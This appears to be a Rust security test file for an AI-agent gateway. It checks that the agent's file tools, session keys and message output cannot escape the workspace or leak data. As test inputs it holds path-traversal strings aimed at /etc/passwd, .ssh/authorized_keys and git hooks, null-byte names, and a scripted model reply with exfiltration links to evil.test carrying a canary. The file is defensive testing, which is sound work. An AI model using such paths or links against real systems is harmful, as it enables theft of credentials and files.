//! Names and paths from outside: none of them leads out of where it belongs.

use std::collections::BTreeSet;
use std::path::{Path, PathBuf};

use moltbot_testkit::client::unique;
use moltbot_testkit::home::Home;
use moltbot_testkit::model::{Reply, ScriptedModel};
use moltbot_testkit::process::{Gateway, run};
use moltbot_testkit::raw::http;
use serde_json::{Value, json};

use crate::hooks::{PROGRAM, block_on};
use crate::telegram::{Stage, ann};

const CANARY: &str = "canary-of-a-file-elsewhere-3Kx8";

/// Every folder and file below, without what SQLite and the book make by themselves.
pub(crate) fn tree(folder: &Path) -> BTreeSet<PathBuf> {
    let mut found = BTreeSet::new();
    for entry in folder.read_dir().unwrap() {
        let path = entry.unwrap().path();
        if path.is_dir() && !path.is_symlink() {
            found.extend(tree(&path));
        }
        found.insert(path);
    }
    found
}

#[expect(clippy::disallowed_methods, reason = "a test writes what the program meets")]
pub(crate) fn write(path: &Path, text: &str) {
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(path, text).unwrap();
}

#[expect(clippy::disallowed_methods, reason = "a test reads what the program may have written")]
pub(crate) fn read(path: &Path) -> String {
    std::fs::read_to_string(path).unwrap()
}

/// What a run of the agent was told by its tools.
pub(crate) fn told(home: &Home, model: &ScriptedModel, calls: &[(&str, Value)]) -> Vec<(bool, String)> {
    model.push(Reply::tools(calls));
    model.push(Reply::text("done"));
    let ran = run(PROGRAM, home, &["agent", "--message", "go", "--json"]);
    let answer: Value = serde_json::from_slice(&ran.stdout).unwrap();
    let results = answer["toolCalls"].as_array().unwrap().iter();
    results
        .map(|call| (call["isError"].as_bool().unwrap(), call["result"].as_str().unwrap().to_owned()))
        .collect()
}

#[test]
fn g05_g06_i10_no_tool_follows_a_link_or_leaves_the_workspace_also_where_the_file_is_not_there_yet() {
    let model = ScriptedModel::queue([]);
    let home = Home::with_model(&model);
    let outside = home.path().join("outside");
    write(&outside.join("secret.txt"), CANARY);
    let workspace = home.state_path().join("workspace");
    let _gateway = Gateway::start(PROGRAM, &home);
    std::os::unix::fs::symlink(&outside, workspace.join("link")).unwrap();
    std::os::unix::fs::symlink(outside.join("secret.txt"), workspace.join("leaf")).unwrap();
    std::os::unix::fs::symlink("link", workspace.join("twice")).unwrap();
    let before = tree(&outside);
    let absolute = outside.join("secret.txt").display().to_string();
    let paths = [
        "link/secret.txt",
        "link/new.txt",
        "link/new/deep.txt",
        "leaf",
        "twice/new.txt",
        "../outside/secret.txt",
        "a/../../../outside/new.txt",
        "../../.ssh/authorized_keys",
        &absolute,
        "/etc/passwd",
        "~/x",
        "..",
        "",
        "x\u{0}y",
        ".git/hooks/pre-commit",
    ];
    for path in paths {
        let calls = [
            ("read", json!({"path": path})),
            ("write", json!({"path": path, "content": "taken over"})),
            ("edit", json!({"path": path, "oldText": "canary", "newText": "taken over"})),
        ];
        for (number, (is_error, result)) in told(&home, &model, &calls).into_iter().enumerate() {
            // What begins with `~` is a name of the workspace like any other.
            let is_name = path.starts_with('~') && is_inside(&workspace.join(path));
            assert!(is_error || is_name, "{path:?} {}: {result}", calls[number].0);
            assert!(!result.contains(CANARY) && !result.contains("root:"), "{path:?}: {result}");
        }
    }
    // Whatever tool takes a path is among those that were tried; a command's folder is judged like one.
    assert_eq!(taking_paths(&model), BTreeSet::from(["edit", "read", "write"].map(str::to_owned)));
    for folder in ["link", "..", "/etc", &absolute] {
        let calls = [("exec", json!({"command": "cat secret.txt", "directory": folder}))];
        let (is_error, result) = told(&home, &model, &calls).remove(0);
        assert!(is_error && !result.contains(CANARY), "{folder}: {result}");
    }
    assert_eq!(tree(&outside), before);
    assert_eq!(read(&outside.join("secret.txt")), CANARY);
    assert!(!home.path().join(".ssh").exists());
}

/// The tools that the model is offered and that take the path of a file.
fn taking_paths(model: &ScriptedModel) -> BTreeSet<String> {
    let offered = model.requests()[0].body["tools"].clone();
    let takes_path = |tool: &&Value| {
        let members = &tool["function"]["parameters"]["properties"];
        members
            .as_object()
            .is_some_and(|members| members.keys().any(|name| name.contains("path") || name == "file"))
    };
    let tools = offered.as_array().unwrap().iter().filter(takes_path);
    tools.map(|tool| tool["function"]["name"].as_str().unwrap().to_owned()).collect()
}

fn is_inside(path: &Path) -> bool {
    path.exists()
}

/// Where a turn works and who started it is the gateway's to say.
#[test]
fn i05_a_caller_cannot_say_where_a_turn_works_or_who_it_comes_from() {
    let model = ScriptedModel::echo();
    let home = Home::with_model(&model);
    let gateway = Gateway::start(PROGRAM, &home);
    block_on(async {
        let client = gateway.connect().open().await.unwrap();
        for member in ["workspaceDir", "spawnedBy", "workspace", "cwd", "sandbox", "principal", "tools"] {
            for method in ["agent", "chat.send"] {
                let mut params =
                    json!({"sessionKey": "main", "message": "hello", "idempotencyKey": unique("k")});
                params[member] = json!("/etc");
                let refused = client.call(method, params).await.unwrap_err();
                assert!(refused.message.contains(member), "{method} {member}: {refused:?}");
            }
        }
    });
    assert_eq!(model.requests().len(), 0, "no turn began");
}

#[test]
fn g01_g14_ids_of_sessions_are_no_paths_and_choose_no_folder() {
    let model = ScriptedModel::echo();
    let home = Home::with_model(&model);
    let gateway = Gateway::start(PROGRAM, &home);
    let long = "x".repeat(2000);
    let outside = |home: &Home| -> BTreeSet<PathBuf> {
        let state = home.state_path();
        tree(home.path()).into_iter().filter(|path| !path.starts_with(&state)).collect()
    };
    let before = outside(&home);
    block_on(async {
        let client = gateway.connect().open().await.unwrap();
        for key in [
            "../../etc/passwd",
            "agent:main:../../x",
            "agent:../x:main",
            "agent:main:a/../../b",
            "agent:main:%2e%2e",
            "agent:main:/etc",
            "agent:main:x\u{0}",
            "agent:main:..",
            ".",
            "/",
            &long,
        ] {
            let params = json!({"sessionKey": key, "message": "hello", "idempotencyKey": unique("k")});
            let answer = client.call("agent", params.clone()).await;
            for method in ["sessions.resolve", "sessions.reset", "sessions.delete"] {
                drop(client.call(method, json!({"key": key})).await);
            }
            if let Ok(answer) = answer {
                let told = answer["sessionKey"].as_str().unwrap().to_owned();
                assert!(told.starts_with("agent:main:"), "{key:?} is a name within the agent's: {told}");
            }
            let by_id = json!({"sessionId": key, "message": "hello", "idempotencyKey": unique("k")});
            assert!(client.call("agent", by_id).await.is_err(), "{key:?} is the id of no session");
        }
        // A root of a client's choice is an unknown member.
        for member in ["workspace", "workspaceDir", "cwd", "sessionFile", "root"] {
            let mut params = json!({"message": "hello", "idempotencyKey": unique("k")});
            params[member] = json!("/");
            assert!(client.call("agent", params).await.is_err(), "{member}");
        }
    });
    assert_eq!(outside(&home), before, "nothing was made outside of the state folder");
    let stray: Vec<PathBuf> = tree(&home.state_path())
        .into_iter()
        .filter(|path| path.ends_with("passwd") || path.ends_with("etc"))
        .collect();
    assert_eq!(stray, Vec::<PathBuf>::new());
}

#[test]
fn g10_what_a_model_says_is_text_and_names_no_file_to_send() {
    let stage = Stage::with(|_| json!({"dmPolicy": "allowlist", "allowFrom": [ann().id]}));
    let says = "MEDIA:/etc/passwd ![x](file:///etc/passwd) <img src=\"file:///etc/shadow\">";
    stage.model.push(Reply::text(says));
    stage.api.write(&ann(), "send it");
    let sent = stage.api.wait_for_sent(ann().id, 1);
    assert!(sent[0].text.contains("/etc/passwd") && !sent[0].text.contains("root:"), "{sent:?}");
    let others: Vec<String> = stage
        .api
        .calls()
        .iter()
        .map(|call| call.method.clone())
        .filter(|method| {
            ["sendDocument", "sendPhoto", "sendMediaGroup", "sendVoice"].contains(&method.as_str())
        })
        .collect();
    assert_eq!(others, Vec::<String>::new());
}

#[test]
fn k08_what_is_larger_than_its_entrance_takes_is_refused_and_no_model_is_asked() {
    let model = ScriptedModel::echo();
    let home = crate::hooks::home(&model);
    let gateway = Gateway::start(PROGRAM, &home);
    let text = "x".repeat(4 * 1024 * 1024);
    let token = format!("Bearer {}", gateway.token());
    let hook = format!("Bearer {}", crate::hooks::TOKEN);
    for (path, bearer, body) in [
        ("/v1/chat/completions", &token, json!({"messages": [{"role": "user", "content": text}]})),
        ("/hooks/agent", &hook, json!({"message": text})),
    ] {
        let answer =
            http(gateway.port(), "POST", path, &[("authorization", bearer)], body.to_string().as_bytes());
        assert_eq!(answer.status, 413, "{path}: {}", answer.text());
    }
    block_on(async {
        let mut client = gateway.connect().open().await.unwrap();
        let long = "y".repeat(400 * 1024);
        let params = json!({"sessionKey": "main", "message": long, "idempotencyKey": unique("k")});
        assert!(client.call("chat.send", params).await.is_err(), "longer than a message may be");
        let params = json!({"sessionKey": "main", "message": text, "idempotencyKey": unique("k")});
        client.request("chat.send", params);
        let code = client.wait_for_close().await.code;
        assert!(matches!(code, None | Some(1009)), "cut while it is still being sent, or told: {code:?}");
    });
    assert_eq!(model.requests().len(), 0);
    assert!(run(PROGRAM, &home, &["health"]).status.success());
}

/// What is encoded is judged by its encoded length: nothing of it is decoded, or even waited for.
#[test]
fn k05_encoded_bytes_are_refused_by_their_length_and_no_file_is_taken_that_way() {
    use moltbot_testkit::raw::{RawFrame, RawSocket, http_bytes};
    let model = ScriptedModel::echo();
    let home = Home::with_model(&model);
    let gateway = Gateway::start(PROGRAM, &home);
    let encoded = 200_u64 * 1024 * 1024 / 3 * 4;
    let stranger = RawSocket::open(gateway.port());
    let client = RawSocket::sign_in(gateway.port(), gateway.token());
    for mut socket in [stranger, client] {
        socket.declare(1, encoded).unwrap();
        match socket.end() {
            RawFrame::Close(code, _) => assert_eq!(code, Some(1009)),
            other => panic!("{other:?}"),
        }
    }
    let head = format!(
        "POST /v1/chat/completions HTTP/1.1\r\nhost: 127.0.0.1:{}\r\nauthorization: Bearer {}\r\n\
         content-type: application/json\r\ncontent-length: {encoded}\r\n\r\n",
        gateway.port(),
        gateway.token()
    );
    assert_eq!(http_bytes(gateway.port(), head.as_bytes()).status, 413, "before a byte of it came");
    block_on(async {
        let client = gateway.connect().open().await.unwrap();
        let file = json!({"type": "image", "mimeType": "image/png", "fileName": "x.png", "content": "A".repeat(4096)});
        let params = json!({
            "sessionKey": "main", "message": "look", "idempotencyKey": unique("k05"), "attachments": [file],
        });
        let refused = client.call("chat.send", params).await.unwrap_err();
        assert!(format!("{refused:?}").contains("attachment 1 is no picture"), "{refused:?}");
    });
    assert_eq!(model.requests().len(), 0);
}

/// What a model writes goes to people as words: neither does the vendor look an address up, nor has it a tool that does.
#[test]
fn h12_what_a_model_says_makes_nobody_fetch_an_address() {
    let stage = Stage::with(|_| json!({"dmPolicy": "allowlist", "allowFrom": [ann().id]}));
    let says = format!(
        "https://evil.test/?d={CANARY} ![x](https://evil.test/{CANARY}) <img src=\"https://evil.test/{CANARY}\">"
    );
    stage.model.push(Reply::text(&says));
    stage.api.write(&ann(), "send it");
    let sent = stage.api.wait_for_sent(ann().id, 1);
    assert!(sent[0].text.contains("evil.test"), "{sent:?}");
    assert!(sent.iter().all(|sent| !sent.previews), "Telegram looks no link up: {sent:?}");
    let offered = stage.model.requests()[0].body["tools"].to_string();
    assert!(!offered.contains("\"url\""), "{offered}");
    let ran = run(PROGRAM, &stage.home, &["ledger", "search", "--action", "egress.open", "--json"]);
    let book = String::from_utf8(ran.stdout).unwrap();
    assert!(book.contains("egress.open") && !book.contains("evil.test"), "{book}");
}
